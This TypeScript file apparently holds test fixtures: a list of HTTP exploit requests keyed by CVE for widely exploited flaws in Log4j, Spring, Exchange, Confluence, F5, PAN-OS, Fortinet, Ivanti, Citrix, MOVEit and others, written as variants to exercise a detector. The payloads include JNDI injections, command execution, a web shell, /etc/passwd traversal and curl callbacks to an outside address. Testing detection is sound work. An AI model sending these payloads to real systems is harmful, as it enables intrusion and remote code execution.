/**
 * Frameworks, mail, gateways. Requests of vulnerabilities that are known to be exploited, written from memory of their public descriptions by somebody
 * who did not look at the catalogue: another spelling, another parameter, another payload than its own cases.
 */
import { get, post } from './second-reading-requests.ts';

export const gateways: readonly (readonly [string, string])[] = [
  ['CVE-2021-44228', get('/?x=${jndi:dns://a.example/x}')],
  ['CVE-2021-44228', get('/', 'User-Agent: ${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://198.51.100.2/a}\r\n')],
  [
    'CVE-2021-44228',
    post('/j_spring_security_check', 'j_username=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.2%2Fo%7D&j_password=a'),
  ],
  ['CVE-2021-44228', get('/solr/admin/cores?action=$%7Bjndi:ldap://$%7Bsys:java.version%7D.x.example/a%7D')],
  ['CVE-2022-22965', get('/?class.module.classLoader.DefaultAssertionStatus=nonsense')],
  [
    'CVE-2022-22965',
    post(
      '/',
      'class%2emodule%2eclassLoader%2eresources%2econtext%2eparent%2epipeline%2efirst%2efileDateFormat=_',
    ),
  ],
  [
    'CVE-2022-22963',
    post(
      '/functionRouter',
      'x',
      'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("id")\r\n',
    ),
  ],
  [
    'CVE-2022-22947',
    post(
      '/actuator/gateway/routes/hack',
      '{"id":"hack","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}',
    ),
  ],
  [
    'CVE-2021-26855',
    post('/ecp/y.js', '<xml/>', 'Cookie: X-BEResource=EX01/EWS/Exchange.asmx?a=~1942062522;\r\n'),
  ],
  [
    'CVE-2021-34473',
    post(
      '/autodiscover/autodiscover.json?a=x@foo.com/powershell/?X-Rps-CAT=VgEA',
      '<s/>',
      'Cookie: Email=autodiscover/autodiscover.json?a=x@foo.com\r\n',
    ),
  ],
  [
    'CVE-2021-27065',
    post(
      '/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory',
      '{"properties":{"Parameters":{"ExternalUrl":"http://a/#<script language=\\"JScript\\" runat=\\"server\\">function Page_Load(){eval(Request[\\"x\\"],\\"unsafe\\");}</script>"}}}',
      'Cookie: X-BEResource=a\r\n',
    ),
  ],
  [
    'CVE-2022-26134',
    get(
      '/%24%7BClass.forName%28%22com.opensymphony.webwork.ServletActionContext%22%29.getMethod%28%22getResponse%22%2Cnull%29.invoke%28null%2Cnull%29.setHeader%28%22X%22%2C%22a%22%29%7D/',
    ),
  ],
  [
    'CVE-2021-26084',
    post(
      '/pages/createpage-entervariables.action?SpaceKey=x',
      'queryString=%5cu0027%2b%7b233*233%7d%2b%5cu0027',
    ),
  ],
  [
    'CVE-2023-22518',
    post(
      '/json/setup-restore.action?synchronous=true',
      '------x\r\nContent-Disposition: form-data; name="file"; filename="x.zip"\r\n\r\nPK',
      'X-Atlassian-Token: no-check\r\n',
    ),
  ],
  [
    'CVE-2023-22515',
    post(
      '/setup/setupadministrator.action',
      'username=a&fullName=a&email=a%40a&password=a&confirm=a&setup-next-button=Next',
      'X-Atlassian-Token: no-check\r\n',
    ),
  ],
  [
    'CVE-2022-1388',
    post(
      '/mgmt/tm/util/bash',
      '{"command":"run","utilCmdArgs":"-c id"}',
      'Connection: keep-alive, X-F5-Auth-Token\r\nX-F5-Auth-Token: a\r\nAuthorization: Basic YWRtaW46\r\n',
    ),
  ],
  [
    'CVE-2021-22986',
    post(
      '/mgmt/shared/authn/login',
      '{"bigipAuthCookie":"","loginReference":{"link":"http://localhost/mgmt/tm/access/bundle-install-tasks"},"filePath":"`id`"}',
    ),
  ],
  ['CVE-2020-5902', get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd')],
  [
    'CVE-2023-46747',
    post(
      '/tmui/login.jsp',
      '204\r\n\x00\x08HTTP/1.1\x00\x00\x12/tmui/Control/form\x00',
      'Transfer-Encoding: chunked, chunked\r\n',
    ),
  ],
  [
    'CVE-2024-3400',
    post(
      '/ssl-vpn/hipreport.esp',
      'user=global&portal=global',
      'Cookie: SESSID=./../../../opt/panlogs/tmp/device_telemetry/minute/aaa`curl${IFS}198.51.100.2`;\r\n',
    ),
  ],
  ['CVE-2024-0012', get('/php/ztp_gate.php/.js.map', 'X-PAN-AUTHCHECK: off\r\n')],
  [
    'CVE-2024-9474',
    post(
      '/php/utils/createRemoteAppwebSession.php/watchTowr.js.map',
      'user=`id`&userRole=superuser&remoteHost=&vsys=vsys1',
      'X-PAN-AUTHCHECK: off\r\n',
    ),
  ],
  ['CVE-2025-0108', get('/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css')],
  [
    'CVE-2022-40684',
    post(
      '/api/v2/cmdb/system/admin/admin',
      '{"ssh-public-key1":"\\"ssh-rsa AAAA\\""}',
      'Forwarded: for="[127.0.0.1]:8888";by="[127.0.0.1]:8888";\r\nUser-Agent: Report Runner\r\n',
      'PUT',
    ),
  ],
  ['CVE-2018-13379', get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession')],
  ['CVE-2023-27997', post('/remote/hostcheck_validate', `enc=${'a'.repeat(300)}`)],
  [
    'CVE-2024-55591',
    get(
      '/service-worker/websocket?local_access_token=x',
      'Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: x\r\n',
    ),
  ],
  [
    'CVE-2025-64446',
    post(
      '/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi',
      '{"data":{"name":"x","password":"y"}}',
      'CGIINFO: eyJ1c2VybmFtZSI6ImFkbWluIn0=\r\n',
    ),
  ],
  ['CVE-2025-25257', get('/api/fabric/device/status', "Authorization: Bearer ';select/**/sleep(5)--\r\n")],
  [
    'CVE-2025-32756',
    post(
      '/module/admin.fe',
      'x',
      `Cookie: APSCOOKIE=Era=0&Payload=${'A'.repeat(200)}&AuthHash=${'B'.repeat(200)}\r\n`,
    ),
  ],
  ['CVE-2023-46805', get('/api/v1/totp/user-backup-code/../../system/system-information')],
  ['CVE-2024-21887', get('/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20198.51.100.2')],
  [
    'CVE-2024-21893',
    post(
      '/dana-ws/saml20.ws',
      '<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:KeyInfo><ds:RetrievalMethod URI="http://127.0.0.1:8090/api/v1/license/keys-status/x"/></ds:KeyInfo></ds:Signature></soap:Body></soap:Envelope>',
    ),
  ],
  [
    'CVE-2019-11510',
    get('/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/'),
  ],
  ['CVE-2023-35078', get('/mifs/aad/api/v2/authorized/users?adminDeviceSpaceId=1')],
  [
    'CVE-2025-4427',
    get('/mifs/rs/api/v2/featureusage?format=%24%7b%22%22.getClass().forName(%22java.lang.Runtime%22)%7d'),
  ],
  [
    'CVE-2024-29824',
    post(
      '/WSStatusEvents/EventHandler.asmx',
      "<UpdateStatusEvents><deviceID>string</deviceID><actions><Action name='string' code='0' date='string' type='96' user='string' configguid='string' location='string'><status>GoodApp=1|md5=x';exec xp_cmdshell 'whoami'--</status></Action></actions></UpdateStatusEvents>",
    ),
  ],
  [
    'CVE-2019-19781',
    post(
      '/vpn/../vpns/portal/scripts/newbm.pl',
      'url=http://x&title=[% template.new({BLOCK}) %]',
      'NSC_USER: ../../../netscaler/portal/templates/a\r\n',
    ),
  ],
  ['CVE-2023-3519', get(`/gwtest/formssso?event=start&target=${'A'.repeat(160)}`)],
  ['CVE-2023-4966', get('/oauth/idp/.well-known/openid-configuration', `Host: ${'a'.repeat(2000)}\r\n`)],
  ['CVE-2025-5777', post('/p/u/doAuthentication.do', 'login')],
  [
    'CVE-2023-34362',
    post(
      '/guestaccess.aspx',
      'Transaction=secmsgpost&Arg01=x',
      'X-siLock-Transaction: folder_add_by_path\r\n',
    ),
  ],
  [
    'CVE-2023-34362',
    post(
      '/moveitisapi/moveitisapi.dll?action=m2',
      '',
      'X-siLock-Transaction: session_setvars\r\nX-siLock-SessVar0: MyUsername: Guest\r\n',
    ),
  ],
  ['CVE-2024-1709', post('/SetupWizard.aspx/anything', '__VIEWSTATE=&ctl00$Main$wizard$userNameBox=a')],
  ['CVE-2023-42793', post('/app/rest/users/id:1/tokens/RPC2', '')],
  [
    'CVE-2024-27198',
    post(
      '/hax?jsp=/app/rest/users;.jsp',
      '{"username":"a","password":"b","roles":{"role":[{"roleId":"SYSTEM_ADMIN","scope":"g"}]}}',
    ),
  ],
  [
    'CVE-2023-7028',
    post(
      '/users/password',
      'authenticity_token=x&user%5Bemail%5D%5B%5D=a%40b.c&user%5Bemail%5D%5B%5D=e%40f.g',
    ),
  ],
  [
    'CVE-2021-22205',
    post(
      '/uploads/user',
      'AT&TFORM\x00\x00\x00DJVMDIRM(metadata (Copyright "\\\n" . qx{id} . \\\n" b ") )',
      'X-CSRF-Token: a\r\n',
    ),
  ],
  [
    'CVE-2024-23897',
    post(
      '/cli?remoting=false',
      '\x00\x00\x00\x0f\x00\x00\x0dconnect-node\x00\x00\x00\x0e\x00\x00\x0c@/etc/passwd',
      'Session: x\r\nSide: upload\r\n',
    ),
  ],
  [
    'CVE-2024-36401',
    get(
      '/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
    ),
  ],
  [
    'CVE-2023-46604',
    '\x00\x00\x00\x80\x1f\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01\x01\x00\x42org.springframework.context.support.ClassPathXmlApplicationContext\x01\x00\x20http://198.51.100.2/poc.xml',
  ],
  [
    'CVE-2024-4577',
    post(
      '/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
      '<?php system("id");?>',
    ),
  ],
  ['CVE-2024-4577', post('/index.php?%add+cgi.force_redirect%3d0', '<?php echo 1;?>')],
];
